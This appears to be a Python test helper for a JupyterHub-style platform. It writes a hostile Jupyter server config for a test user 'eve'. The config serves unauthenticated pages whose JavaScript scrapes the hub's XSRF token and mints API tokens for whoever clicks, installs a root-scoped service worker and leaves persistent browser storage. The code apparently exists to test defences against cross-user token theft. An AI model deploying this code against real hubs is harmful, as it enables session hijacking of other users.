"""A person's server whose own page makes a token for whoever opens it.

What a server sends is up to its owner: here a Jupyter configuration adds a page that asks nobody
for a login, opens the Hub's token page as a window, and sends what that page would send. Others
leave something in the browser: a service worker, a page in the cache, an entry in its storage.
"""

import psutil
from team import PASSWORD, Team, Visitor

_CONFIG = '''
from jupyter_server.auth.decorator import allow_unauthenticated
from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler

PAGE = """<title>waits</title><script>
onclick = () => {
  const hub = open("/hub/token");
  const timer = setInterval(async () => {
    const said = hub.document.body && hub.document.body.outerHTML + hub.document.head.outerHTML;
    const xsrf = said && said.match(/xsrf_token: "([^"]+)"/);
    const user = said && said.match(/user: "([^"]+)"/);
    if (!xsrf || !user) return;
    clearInterval(timer);
    const answer = await hub.fetch(`/hub/api/users/${user[1]}/tokens`, {
      method: "POST", body: "{}", headers: {"X-XSRFToken": xsrf[1], "Content-Type": "application/json"},
    });
    document.title = answer.status === 201 ? "stolen" : "refused";
  }, 50);
};
</script>Click"""

WORKER = """
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
onfetch = (event) => event.respondWith(new Response("stolen"));
"""
# the script's second way leads past the network, if it may come from the cache
INSTALL = """<title>waits</title><script>
const install = (options) => navigator.serviceWorker.register("worker.js", options);
install({scope: "/"})
  .catch(() => fetch("worker.js").then((answer) => answer.text()))
  .then(() => install({updateViaCache: "all"}))
  .then(() => (document.title = "installed"), () => (document.title = "refused"));
</script>"""
LEAVE = """<title>left</title><script>localStorage.setItem("left", "here");</script>Kept"""
PAGES = {"steal": PAGE, "worker.js": WORKER, "install": INSTALL, "leave": LEAVE}

class Steal(RequestHandler):
    @allow_unauthenticated
    def get(self):
        name = self.request.path.rsplit("/", 1)[1]
        if name.endswith(".js"):
            self.set_header("Content-Type", "text/javascript")
            self.set_header("Service-Worker-Allowed", "/")
        if name in ("worker.js", "leave"):
            self.set_header("Cache-Control", "public, max-age=31536000, immutable")
        self.finish(PAGES[name])

made = ServerWebApplication.init_handlers

def init_handlers(self, services, settings):
    return [*((settings["base_url"] + name, Steal) for name in PAGES), *made(self, services, settings)]

ServerWebApplication.init_handlers = init_handlers
'''


def open_stealing_server(team: Team, admin: str) -> Visitor:
    """Make the Viewer eve and start her server with a page `/user/eve/steal`; return her browser."""
    account = {"name": "eve", "password": PASSWORD, "roles": ["Viewer"]}
    team.call(admin, "POST", "couture/accounts", account | {"must_change_password": False})
    eve = team.visitor()
    eve.log_in("eve", PASSWORD)
    eve.open_lab("eve")
    server = team.server_of("eve")
    server.terminate()
    psutil.wait_procs([server], 20)
    config = team.home / "users" / "eve" / ".jupyter" / "jupyter_server_config.py"
    config.parent.mkdir(exist_ok=True)
    config.write_text(_CONFIG)
    eve.open_lab("eve")
    return eve
